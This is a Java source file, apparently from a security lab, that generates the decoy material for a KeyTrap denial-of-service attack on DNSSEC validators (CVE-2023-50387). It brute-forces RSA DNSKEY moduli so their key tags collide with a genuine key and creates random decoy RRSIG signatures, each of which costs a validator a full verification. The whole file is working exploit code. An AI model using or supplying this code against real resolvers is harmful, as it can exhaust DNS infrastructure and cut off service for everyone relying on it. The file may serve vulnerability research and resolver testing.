package io.mxray.lab.dns;

import java.security.SecureRandom;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import org.xbill.DNS.DNSKEYRecord;
import org.xbill.DNS.RRSIGRecord;

/**
 * The decoys of a KeyTrap zone (CVE-2023-50387). RSA keys with a chosen key tag are cheap to make:
 * any modulus is a public key, and two of its bytes can be set so that the RFC 4034 Appendix B
 * checksum comes out as wanted; a validator verifies under each as it would under a real key.
 * Decoy signatures are random numbers below the modulus, so each costs a full verification.
 */
final class KeyTrapKeys {
    private static final SecureRandom RANDOM = new SecureRandom();

    private KeyTrapKeys() {
    }

    /** {@code n} RSA DNSKEYs with the tag, algorithm and flags of {@code genuine}, and other moduli. */
    static List<DNSKEYRecord> colliding(DNSKEYRecord genuine, int n) {
        List<DNSKEYRecord> out = new ArrayList<>(n);
        byte[] key = genuine.getKey();
        int modulusStart = (key[0] & 0xff) == 0 ? 3 + (((key[1] & 0xff) << 8) | (key[2] & 0xff)) : 1 + (key[0] & 0xff);
        while (out.size() < n) {
            byte[] k = key.clone();
            byte[] random = new byte[k.length - modulusStart];
            RANDOM.nextBytes(random);
            System.arraycopy(random, 0, k, modulusStart, random.length);
            k[modulusStart] |= (byte) 0x80; // a modulus of the full length
            k[k.length - 1] |= 1;
            DNSKEYRecord candidate = withTag(genuine, k, genuine.getFootprint());
            if (candidate != null && !Arrays.equals(candidate.getKey(), key)) {
                out.add(candidate);
            }
        }
        return out;
    }

    /**
     * Sets two bytes of the modulus (not the last one: the modulus stays odd) so that the key tag,
     * the RFC 4034 Appendix B checksum over the RDATA, is {@code tag}; null if no value does.
     */
    private static DNSKEYRecord withTag(DNSKEYRecord genuine, byte[] k, int tag) {
        int pos = k.length - 3;
        if ((4 + pos) % 2 != 0) { // the pair must start at an even offset of the RDATA
            pos--;
        }
        k[pos] = 0;
        k[pos + 1] = 0;
        byte[] rdata = new byte[4 + k.length];
        rdata[0] = (byte) (genuine.getFlags() >> 8);
        rdata[1] = (byte) genuine.getFlags();
        rdata[2] = (byte) genuine.getProtocol();
        rdata[3] = (byte) genuine.getAlgorithm();
        System.arraycopy(k, 0, rdata, 4, k.length);
        long base = 0;
        for (int i = 0; i < rdata.length; i++) {
            base += (i & 1) != 0 ? rdata[i] & 0xff : (rdata[i] & 0xff) << 8;
        }
        for (int v = 0; v < 65536; v++) {
            long ac = base + v;
            ac += (ac >> 16) & 0xffff;
            if ((ac & 0xffff) == tag) {
                k[pos] = (byte) (v >> 8);
                k[pos + 1] = (byte) v;
                DNSKEYRecord r = new DNSKEYRecord(genuine.getName(), genuine.getDClass(), genuine.getTTL(),
                        genuine.getFlags(), genuine.getProtocol(), genuine.getAlgorithm(), k);
                return r.getFootprint() == tag ? r : null;
            }
        }
        return null;
    }

    /** {@code n} signatures like {@code sig} whose bytes are random (below any full-length modulus). */
    static List<RRSIGRecord> decoys(RRSIGRecord sig, int n) {
        List<RRSIGRecord> out = new ArrayList<>(n);
        for (int i = 0; i < n; i++) {
            byte[] bytes = new byte[sig.getSignature().length];
            RANDOM.nextBytes(bytes);
            bytes[0] &= 0x7f;
            out.add(new RRSIGRecord(sig.getName(), sig.getDClass(), sig.getTTL(), sig.getTypeCovered(), sig.getAlgorithm(),
                    sig.getOrigTTL(), sig.getExpire(), sig.getTimeSigned(), sig.getFootprint(), sig.getSigner(), bytes));
        }
        return out;
    }
}
